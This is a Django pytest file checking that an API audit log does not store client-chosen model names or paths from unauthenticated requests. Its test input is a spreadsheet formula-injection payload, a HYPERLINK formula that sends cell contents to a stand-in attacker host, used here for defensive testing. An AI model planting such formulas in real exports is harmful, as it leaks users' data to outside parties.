"""What the audit middleware stores for /v1 requests, through the real endpoint (Django's ASGI
test client, real database): nothing a client without a valid key chose."""

from __future__ import annotations

from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncClient

from mlxmanager.accounts.services import api_key_create
from mlxmanager.audit import recorder as rec
from mlxmanager.audit.models import RequestLog

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def post(path: str, body: dict[str, Any], **headers: str) -> Any:
    return async_to_sync(AsyncClient().post)(path, body, content_type="application/json", headers=headers)


def stored() -> list[RequestLog]:
    rec.recorder.flush()
    return list(RequestLog.objects.order_by("id"))


def test_a_request_without_a_valid_key_stores_no_client_chosen_model() -> None:
    hi = [{"role": "user", "content": "hi"}]
    assert post("/v1/chat/completions", {"model": FORMULA, "messages": hi}).status_code == 401
    bad_key = post("/v1/chat/completions", {"model": FORMULA, "messages": hi}, Authorization="Bearer nope")
    assert bad_key.status_code == 401
    rows = stored()
    assert len(rows) == 2
    for row in rows:
        assert row.status == 401 and row.error_type == "invalid_api_key"
        assert row.requested_model == "" and row.upstream_model == "" and row.backend == "" and row.rule == ""
        assert row.endpoint == "/v1/chat/completions" and row.username == ""


def test_an_unknown_path_without_a_key_is_not_stored_as_sent() -> None:
    assert post(f"/v1/{FORMULA}", {"model": FORMULA}).status_code == 404
    (row,) = stored()
    assert FORMULA not in row.endpoint and row.requested_model == ""
    assert row.endpoint.startswith("/v1/")


def test_a_keyed_request_still_records_the_model_it_asked_for(member: Any) -> None:
    _, secret = api_key_create(user=member, name="k")
    r = post("/v1/chat/completions", {"model": "no-such-model", "messages": [{"role": "user", "content": "x"}]},
             Authorization=f"Bearer {secret}")  # fmt: skip
    assert r.status_code == 404
    (row,) = stored()
    assert row.requested_model == "no-such-model" and row.username == "member"
